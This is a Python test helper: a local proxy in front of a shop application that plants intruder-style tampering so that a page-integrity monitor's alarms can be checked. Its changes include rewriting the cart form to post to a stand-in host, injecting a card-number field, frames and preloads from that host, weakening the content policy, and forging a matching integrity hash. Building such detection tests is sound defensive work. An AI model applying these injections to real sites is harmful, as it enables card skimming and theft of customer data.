"""A proxy before a shop that alters its pages as an intruder would: small changes, each on a page of its own."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.client
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

EVIL = "http://evil.localhost:9"


@dataclass
class Answer:
    """An answer on its way to the browser."""

    path: str
    asked: dict[str, str]
    status: int
    headers: list[tuple[str, str]]
    body: bytes = field(repr=False)

    def replace(self, old: str, new: str) -> None:
        self.body = self.body.replace(old.encode(), new.encode())

    def add(self, markup: str, before: str = "</main>") -> None:
        self.replace(before, markup + before)

    def set(self, name: str, value: str) -> None:
        self.headers = [each for each in self.headers if each[0].lower() != name.lower()] + [(name, value)]

    def header(self, name: str) -> str:
        return next((value for each, value in self.headers if each.lower() == name.lower()), "")


Plant = Callable[[Answer], None]
_LATER = b"\n// and more\n"


def _changed_file_and_integrity(answer: Answer) -> None:
    """An intruder who can write templates and files makes both agree again."""
    if answer.path.startswith("/static/once.js"):
        answer.body += _LATER
    elif answer.path == "/checkout/confirm":
        start = answer.body.find(b'integrity="', answer.body.find(b"/static/once.js")) + len(b'integrity="')
        old = answer.body[start : answer.body.find(b'"', start)]
        answer.body = answer.body.replace(old, _OnceJS.integrity.encode())


class _OnceJS:
    """What the altered file's integrity is; filled when the proxy starts."""

    integrity = ""


def _on(path: str, act: Plant) -> Plant:
    return lambda answer: act(answer) if answer.path.partition("?")[0] == path else None


def _worker(answer: Answer) -> None:
    if answer.path.startswith("/search"):
        answer.add('<script src="/static/offline.js"></script>')
    elif answer.path == "/static/offline.js":
        answer.status, answer.body = 200, b"navigator.serviceWorker.register('/static/worker.js');"
        answer.set("Content-Type", "text/javascript")
    elif answer.path == "/static/worker.js":
        answer.status, answer.body = 200, b"self.addEventListener('fetch', () => 0);"
        answer.set("Content-Type", "text/javascript")


def _to_phones_only(answer: Answer) -> None:
    if "iPhone" in answer.asked.get("user-agent", "") and answer.path == "/card-data":
        answer.add("<script>window.seen = 1</script>")


def _to_those_who_return(answer: Answer) -> None:
    if answer.path == "/":
        if "again=1" in answer.asked.get("cookie", ""):
            answer.add('<b onclick="x()"></b>')
        answer.headers.append(("Set-Cookie", "again=1; Path=/; HttpOnly; SameSite=Lax"))


def _weaker_policy(answer: Answer) -> None:
    policy = answer.header("Content-Security-Policy")
    answer.set(
        "Content-Security-Policy", policy.replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")
    )


def _other_provider(answer: Answer) -> None:
    if answer.path.endswith("/pay"):
        answer.replace('<script src="http://pay.localhost', '<script src="http://pay-js.localhost')


def _longer_script(answer: Answer) -> None:
    if answer.path.startswith("/static/shop.js"):
        answer.body += _LATER


def _elsewhere(answer: Answer) -> None:
    answer.status = 302
    answer.set("Location", f"{EVIL}/")


PLANTS: dict[str, tuple[Plant, str]] = {
    "a block in the template": (
        _on("/guide/terms", lambda a: a.add('<aside class="extra"></aside>')),
        "watch-elements",
    ),
    "a static file": (_longer_script, "blocked"),
    "a static file and its integrity": (_changed_file_and_integrity, "script"),
    "a weaker policy": (_on("/guide/law", _weaker_policy), "header-csp"),
    "a header gone": (_on("/guide/payment", lambda a: a.set("X-Content-Type-Options", "")), "watch-headers"),
    "a script for phones only": (_to_phones_only, "inline-script"),
    "a handler for those who come back": (_to_those_who_return, "inline-script"),
    # A page whose script does not come leads on to the provider's own page by itself: it may be there before we look.
    "another provider host": (_other_provider, "third-party payment-host"),
    "a service worker": (_worker, "service-worker"),
    "a meta refresh": (
        _on("/guide/delivery", lambda a: a.add(f'<meta http-equiv="refresh" content="900;url={EVIL}/">')),
        "leads-away",
    ),
    "a form's target": (
        _on("/cart", lambda a: a.replace('action="/cart/update"', f'action="{EVIL}/take"')),
        "form-target",
    ),
    "a frame": (_on("/guide/privacy", lambda a: a.add(f'<iframe src="{EVIL}/f"></iframe>')), "frame"),
    "a preload": (
        _on("/guide/company", lambda a: a.add(f'<link rel="preload" as="script" href="{EVIL}/s.js">')),
        "watch-loads",
    ),
    "a Link header": (
        _on("/guide/contact", lambda a: a.set("Link", f"<{EVIL}/s.js>; rel=preload")),
        "header-link",
    ),
    "a card field": (
        _on("/checkout", lambda a: a.add('<input name="n" autocomplete="cc-number">')),
        "card-field",
    ),
    "a link to another till": (
        _on("/checkout/delivery", lambda a: a.add(f'<a href="{EVIL}/pay">支払う</a>')),
        "leads-away",
    ),
    "a script where there is no page": (
        _on("/a-page-that-is-not-there", lambda a: a.add("<script>window.here = 1</script>")),
        "inline-script",
    ),
    "a redirect": (_on("/guide/returns", _elsewhere), "watch-unseen"),
}
"""Each change with the rules one of which must be among its alarms."""


class _Quiet(ThreadingHTTPServer):
    """A browser that leaves a page breaks off what it was loading; that is no fault."""

    def handle_error(self, _request: object, _address: object) -> None:
        return


@contextlib.contextmanager
def tampering_proxy(port: int, upstream: int) -> Iterator[set[str]]:
    """Listens on `port`; the set that it gives holds the names of the changes that are made now."""
    active: set[str] = set()

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def _pass_on(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            connection = http.client.HTTPConnection("127.0.0.1", upstream, timeout=30)
            connection.request(self.command, self.path, body or None, dict(self.headers))
            came = connection.getresponse()
            asked = {name.lower(): value for name, value in self.headers.items()}
            answer = Answer(self.path, asked, came.status, came.getheaders(), came.read())
            connection.close()
            for name in sorted(active):
                PLANTS[name][0](answer)
            self.send_response(answer.status)
            for name, value in answer.headers:
                if name.lower() not in {"content-length", "transfer-encoding", "connection"} and value:
                    self.send_header(name, value)
            self.send_header("Content-Length", str(len(answer.body)))
            self.end_headers()
            self.wfile.write(answer.body)

        def log_message(self, *_about: object) -> None:
            """Quiet."""

    for method in ("GET", "POST"):
        setattr(Handler, f"do_{method}", Handler._pass_on)
    server = _Quiet(("127.0.0.1", port), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield active
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def know_file(data: bytes) -> None:
    """Reckon what the altered script's integrity will be."""
    digest = hashlib.sha384(data + _LATER).digest()
    _OnceJS.integrity = "sha384-" + base64.b64encode(digest).decode()
